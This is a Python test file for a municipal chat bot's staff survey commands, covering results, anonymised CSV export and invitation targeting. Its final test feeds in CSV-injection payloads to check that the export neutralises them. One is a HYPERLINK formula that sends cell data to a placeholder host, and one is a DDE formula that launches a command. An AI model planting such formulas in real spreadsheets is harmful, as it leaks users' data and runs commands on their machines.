"""Staff run surveys in chat, through the console and the real Telegram path: /survey (list,
card, publish, close, invite), /results with charts, the CSV export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from PIL import Image
from sqlmodel import select

from bot.channels.console import RecordingChannel
from bot.core.messages import IncomingMessage, Kind, Reply
from storage.db import Database
from storage.models import ChannelIdentity, Citizen, Outbox, SurveyResponse
from storage.repos import alerts, citizens, moderation
from tests.bot.surveys.seed import add_survey
from tests.conftest import Clock
from tests.steps import labels, onboard
from tests.steps.surveys import answer_all

STAFF_ONLY = "This command is for municipal staff only."
BANNED = (
    "An administrator has suspended your access to this bot. If you think this is a mistake, "
    "please contact the municipality in the usual way."
)


async def test_staff_commands_and_buttons_are_refused_to_citizens(
    chat: RecordingChannel, db: Database
):
    await add_survey(db)
    await onboard(chat)
    for command in ("/survey", "/survey 1", "/survey 1 invite", "/results 1", "/newsurvey"):
        (reply,) = await chat.say(command)
        assert reply.text == STAFF_ONLY, command
    payloads = (
        "sqo:1",
        "sqr:1",
        "sqt:1:idea:0",
        "sqe:1",
        "sqi:1",
        "sqa:1:*",
        "sqy:1:*",
        "sqp:1:1",
        "sqx",
        "sqn:more",
    )
    for payload in payloads:
        tap = IncomingMessage(address=chat.address("u1"), kind=Kind.BUTTON, payload=payload)
        (reply,) = await chat.push(tap)
        assert reply.text == STAFF_ONLY, payload
    async with db.sessions() as session:
        assert (await session.exec(select(Outbox))).all() == []


async def test_the_list_the_card_and_closing(chat: RecordingChannel, db: Database):
    await add_survey(db)
    await onboard(chat, user="admin")
    (listing,) = await chat.say("/survey", user="admin")
    assert "#1 The parks · open · 1 Nov 2026 – 31 Dec 2026" in listing.text
    (card,) = await chat.tap("#1 The parks", user="admin")
    assert "Code: parks" in card.text and "Responses: 0 (and 0 started)" in card.text
    assert "For: all districts; languages: all languages" in card.text
    assert "/opendata/surveys/1/results.json" in card.text
    assert labels(card) == ["📊 Results", "📄 CSV", "📨 Invite", "🔒 Results private"]
    (private,) = await chat.tap("🔒 Results private", user="admin")
    assert private.text.startswith("🔒 The results are not published.")
    (unknown,) = await chat.say("/survey nope", user="admin")
    assert unknown.text == "No survey “nope”. /survey lists them."
    (usage,) = await chat.say("/survey 1 frobnicate", user="admin")
    assert usage.text.startswith("Usage: /survey")
    await onboard(chat)
    await chat.say("/surveys")
    await chat.tap("📝 The parks")
    (closed,) = await chat.say("/survey parks close", user="admin")
    assert closed.text.startswith("⏹️ Closed") and "Status: closed" in closed.text
    (late,) = await chat.tap("Yes")
    assert "is closed" in late.text


def png(reply: Reply) -> Image.Image:
    assert isinstance(reply.image, bytes)
    image = Image.open(io.BytesIO(reply.image))
    assert image.format == "PNG"
    return image


async def test_results_with_charts_and_free_text(chat: RecordingChannel, db: Database):
    await add_survey(db)
    for user, go in (("u1", "Yes"), ("u2", "No"), ("u3", "Yes")):
        await onboard(chat, user=user)
        await answer_all(chat, user=user, go=go)
    await onboard(chat, user="u4")  # started, not finished
    await chat.say("/start survey_1", user="u4")
    await onboard(chat, user="admin")
    replies = await chat.say("/results 1", user="admin")
    text, *charts, closing = replies
    assert text.text.startswith("📊 Results: The parks")
    assert "Responses: 3 (and 1 started, not finished)" in text.text
    assert (
        "1. Do you go to the park?\nanswered 3, skipped 0\n   Yes — 2 (67%)\n   No — 1 (33%)"
        in text.text
    )
    assert "2. Which parks?\nanswered 2, skipped 0\n   Borisova Garden — 2 (100%)" in text.text
    assert "   4 — 3 (100%)\n   5 — 0 (0%)\n   average: 4.00" in text.text
    assert "4. Would you recommend them?\nanswered 0, skipped 3\n\n5." in text.text
    assert "5. One idea?\nanswered 3, skipped 0" in text.text
    assert text.text.endswith("Responses by district:\ndistrict not given — 3")
    # A chart per choice or scale question that has answers: go, which, clean.
    assert [c.text for c in charts] == [
        "📊 Do you go to the park?",
        "📊 Which parks?",
        "📊 How clean are they?",
    ]
    for chart in charts:
        image = png(chart)
        assert image.width == 1080 and image.height >= 400
    assert labels(closing) == ["💬 Answers to 5", "📄 CSV"]
    (texts,) = await chat.tap("💬 Answers to 5", user="admin")
    assert texts.text.startswith("💬 “One idea?”: answers 1–3 of 3")
    assert texts.text.count("💬 More benches") == 3
    # In Bulgarian, with a decimal comma.
    await chat.say("/language", user="admin")
    await chat.tap("Български", user="admin")
    bulgarian, *_ = await chat.say("/results 1", user="admin")
    assert "   4 — 3 (100%)\n   5 — 0 (0%)\n   средно: 4,00" in bulgarian.text


async def test_the_csv_export_is_anonymised_and_matches_the_answers(
    chat: RecordingChannel, db: Database
):
    await add_survey(db)
    await onboard(chat)
    await answer_all(chat)
    await onboard(chat, user="u2")
    await answer_all(chat, user="u2", go="No")
    await onboard(chat, user="admin")
    intro, *chunks = await chat.say("/survey 1 export", user="admin")
    assert intro.text.startswith("📄 “The parks”: 2 responses, anonymised")
    rows = list(csv.DictReader(io.StringIO("\n".join(c.text for c in chunks))))
    async with db.sessions() as session:
        responses = {r.respondent: r for r in (await session.exec(select(SurveyResponse))).all()}
        ids = {str(c.id) for c in (await session.exec(select(Citizen))).all()}
        users = {i.user_id for i in (await session.exec(select(ChannelIdentity))).all()}
    assert sorted(int(r["respondent"]) for r in rows) == sorted(responses)
    assert [r["respondent"] for r in rows] == sorted(r["respondent"] for r in rows)
    by_go = {r["go"]: r for r in rows}
    assert by_go["yes"] | {"respondent": ""} == {
        "respondent": "",
        "district": "",
        "completed": "2026-11-27",
        "go": "yes",
        "which": "borisova",
        "clean": "4",
        "nps": "(skipped)",
        "idea": "More benches",
    }
    assert by_go["no"]["which"] == "" and by_go["no"]["nps"] == "(skipped)"
    flat = {cell for row in rows for cell in row.values()}
    assert not flat & (ids - {""}) - {"4"}  # no citizen ids (a "4" rating may equal one)
    assert not flat & users


async def subscribe(
    chat: RecordingChannel, db: Database, user: str, topic: str, *, district: str | None = None
) -> None:
    """An alert subscription (to the whole city, or to one district)."""
    now = datetime(2026, 11, 27, tzinfo=UTC)
    async with db.sessions() as session, session.begin():
        who = await citizens.find_by_identity(
            session, channel=chat.name, user_id=chat.address(user).user_id
        )
        assert who is not None and who.id is not None
        await alerts.set_topic(session, citizen_id=who.id, topic=topic, on=True, now=now)
        if district:
            await alerts.set_district(
                session, citizen_id=who.id, district=district, on=True, now=now
            )


async def invitations(chat: RecordingChannel, user: str) -> list[Reply]:
    return [r for r in chat.pop(user) if "asks for your opinion" in r.text]


async def test_invitations_to_opted_in_citizens_and_topic_subscribers(
    chat: RecordingChannel, db: Database
):
    await add_survey(db)
    await onboard(chat)  # opts in
    await chat.say("/surveys")
    await chat.tap("🔔 Tell me about new surveys")
    await onboard(chat, user="u2")
    await subscribe(chat, db, "u2", "water")
    await onboard(chat, user="u3")  # neither
    await onboard(chat, user="admin")
    (audience,) = await chat.say("/survey 1 invite", user="admin")
    assert labels(audience)[0] == "🔔 Opted in to surveys" and "✖️ Cancel" in labels(audience)
    (preview,) = await chat.tap("🔔 Opted in to surveys", user="admin")
    assert "📝 Sofia Municipality asks for your opinion: “The parks”." in preview.text
    assert "📝 Столична община пита за Вашето мнение: „Парковете“." in preview.text
    assert f"👥 Invitations now: 1 ({chat.name.capitalize()} 1)" in preview.text
    assert labels(preview) == ["📨 Send the invitations", "✖️ Cancel"]
    (queued,) = await chat.tap("📨 Send the invitations", user="admin")
    assert queued.text.startswith("📨 Invitations queued: 1 message to 1 citizen.")
    (invite,) = await invitations(chat, "u1")
    assert labels(invite) == ["📝 Take the survey"]
    assert await invitations(chat, "u2") == [] and await invitations(chat, "u3") == []
    (opened,) = await chat.tap("📝 Take the survey")
    assert "Question 1/4" in opened.text
    # Nobody is invited twice.
    await chat.say("/survey 1 invite", user="admin")
    (again,) = await chat.tap("🔔 Opted in to surveys", user="admin")
    assert "Nobody to invite" in again.text and labels(again) == ["✖️ Cancel"]
    # The water topic's subscribers.
    await chat.say("/survey 1 invite", user="admin")
    (water,) = await chat.tap("💧 Water supply", user="admin")
    assert "To: subscribers of" in water.text and "Invitations now: 1" in water.text
    await chat.tap("📨 Send the invitations", user="admin")
    (invite2,) = await invitations(chat, "u2")
    assert labels(invite2) == ["📝 Take the survey"]
    async with db.sessions() as session:
        rows = (await session.exec(select(Outbox))).all()
    assert {(r.kind, r.status) for r in rows} == {("invite", "sent")}


async def ban(chat: RecordingChannel, db: Database, user: str) -> None:
    """As /ban does it (the ban itself; /ban's own steps are tested in test_admin_bans)."""
    async with db.sessions() as session, session.begin():
        who = await citizens.find_by_identity(
            session, channel=chat.name, user_id=chat.address(user).user_id
        )
        assert who is not None
        await moderation.ban(
            session, citizen=who, reason=None, now=datetime(2026, 11, 27, tzinfo=UTC)
        )


async def test_a_banned_citizen_is_not_invited_and_cannot_take_part(
    chat: RecordingChannel, db: Database
):
    """Issue 11 #25: a ban keeps public alerts but not surveys."""
    await add_survey(db)
    for user, opted_in, water in (("u1", True, True), ("u2", True, False), ("u3", False, True)):
        await onboard(chat, user=user)
        if opted_in:
            await chat.say("/surveys", user=user)
            await chat.tap("🔔 Tell me about new surveys", user=user)
        if water:
            await subscribe(chat, db, user, "water")
    await onboard(chat, user="admin")
    await ban(chat, db, "u1")

    for audience in ("🔔 Opted in to surveys", "sqa:1:water"):
        await chat.say("/survey 1 invite", user="admin")
        (preview,) = await chat.tap(audience, user="admin")
        assert f"👥 Invitations now: 1 ({chat.name.capitalize()} 1)" in preview.text
        await chat.tap("📨 Send the invitations", user="admin")
        assert await invitations(chat, "u1") == []
    (invite,) = await invitations(chat, "u2")
    assert len(await invitations(chat, "u3")) == 1

    # Tapping the invitation someone else got, or typing /surveys: the ban notice, no answer.
    tapped = IncomingMessage(chat.address("u1"), Kind.BUTTON, payload=invite.all_buttons[0].payload)
    assert [r.text for r in await chat.push(tapped)] == [BANNED]
    assert await chat.say("/surveys", user="u1") == []
    async with db.sessions() as session:
        assert (await session.exec(select(SurveyResponse))).all() == []


async def test_a_ban_withdraws_an_invitation_held_for_quiet_hours(
    chat: RecordingChannel, db: Database, clock: Clock
):
    await add_survey(db)
    await onboard(chat)
    await chat.say("/surveys")
    await chat.tap("🔔 Tell me about new surveys")
    await onboard(chat, user="admin")
    clock.now = datetime(2026, 11, 27, 21, 30, tzinfo=UTC)  # 23:30 in Sofia: quiet hours
    await chat.say("/survey 1 invite", user="admin")
    await chat.tap("🔔 Opted in to surveys", user="admin")
    (queued,) = await chat.tap("📨 Send the invitations", user="admin")
    assert queued.text.startswith("📨 Invitations queued: 1 message to 1 citizen.")
    assert await invitations(chat, "u1") == []  # held until 07:00
    await ban(chat, db, "u1")
    async with db.sessions() as session:
        (row,) = (await session.exec(select(Outbox))).all()
    assert (row.kind, row.status) == ("invite", "cancelled")


async def test_a_district_survey_invites_only_its_districts(chat: RecordingChannel, db: Database):
    from tests.bot.surveys.seed import variant

    await add_survey(db, variant(districts='["15"]'))
    for user, district in (("u1", "15"), ("u2", "01"), ("u3", None)):
        await onboard(chat, user=user)
        await chat.say("/surveys", user=user)
        await chat.tap("🔔 Tell me about new surveys", user=user)
        if district:
            await subscribe(chat, db, user, "water", district=district)
    await onboard(chat, user="admin")
    await chat.say("/survey 1 invite", user="admin")
    (preview,) = await chat.tap("🔔 Opted in to surveys", user="admin")
    assert "Invitations now: 2" in preview.text  # Mladost and the one with no district
    await chat.tap("📨 Send the invitations", user="admin")
    assert len(await invitations(chat, "u1")) == 1
    assert await invitations(chat, "u2") == []
    assert len(await invitations(chat, "u3")) == 1


async def test_invitations_only_while_open(chat: RecordingChannel, db: Database, clock: Clock):
    await add_survey(db)
    await onboard(chat, user="admin")
    clock.advance(days=40)
    (refused,) = await chat.say("/survey 1 invite", user="admin")
    assert refused.text == "Invitations go out only while a survey is open (this one: closed)."


async def test_free_text_answers_come_a_page_at_a_time(chat: RecordingChannel, db: Database):
    await add_survey(db)
    for n in range(12):
        await onboard(chat, user=f"c{n}")
        await answer_all(chat, user=f"c{n}", go="No")
    await onboard(chat, user="admin")
    results = await chat.say("/results 1", user="admin")
    (answers,) = [label for label in labels(results[-1]) if label.startswith("💬")]
    (page1,) = await chat.tap(answers, user="admin")
    assert page1.text.startswith("💬 “One idea?”: answers 1–10 of 12")
    assert labels(page1) == ["▶️"]
    (page2,) = await chat.tap("▶️", user="admin")
    assert page2.text.startswith("💬 “One idea?”: answers 11–12 of 12")
    assert labels(page2) == ["◀️"]
    stale = IncomingMessage(address=chat.address("admin"), kind=Kind.BUTTON, payload="sqt:1:go:0")
    (refused,) = await chat.push(stale)
    assert refused.text.startswith("Those buttons are out of date.")


async def test_results_without_an_id_offers_the_surveys_that_have_results(
    chat: RecordingChannel, db: Database
):
    await onboard(chat, user="admin")
    (none,) = await chat.say("/results", user="admin")
    assert none.text == (
        "No survey has results yet (none is open or closed). /survey lists them all."
    )
    await add_survey(db)
    (pick,) = await chat.say("/results", user="admin")
    assert pick.text == (
        "Results of which survey? Open and closed ones, newest first:\n#1 The parks · open"
    )
    assert labels(pick) == ["#1 The parks"]
    first, *_ = await chat.tap("#1 The parks", user="admin")
    assert first.text.startswith("📊 Results: The parks")


async def test_the_csv_export_quotes_answers_a_spreadsheet_would_run(
    chat: RecordingChannel, db: Database
):
    """OWASP CSV injection: a free-text answer that starts like a formula is exported
    behind a `'`, so a spreadsheet shows it as text instead of running it."""
    payloads = ('=HYPERLINK("http://x/?"&A1,"Details")', "+cmd|' /C calc'!A0", "-1+1", "＝4+4")
    await add_survey(db)
    for n, text in enumerate(payloads):
        user = f"u{n}"
        await onboard(chat, user=user)
        await chat.say("/surveys", user=user)
        await chat.tap("📝 The parks", user=user)
        await chat.tap("No", user=user)
        await chat.tap("4️⃣", user=user)
        await chat.tap("⏭️ Skip", user=user)
        await chat.say(text, user=user)
    await onboard(chat, user="admin")
    _, *chunks = await chat.say("/survey 1 export", user="admin")
    rows = list(csv.DictReader(io.StringIO("\n".join(c.text for c in chunks))))
    assert sorted(r["idea"] for r in rows) == sorted("'" + text for text in payloads)
    assert {r["clean"] for r in rows} == {"4"}
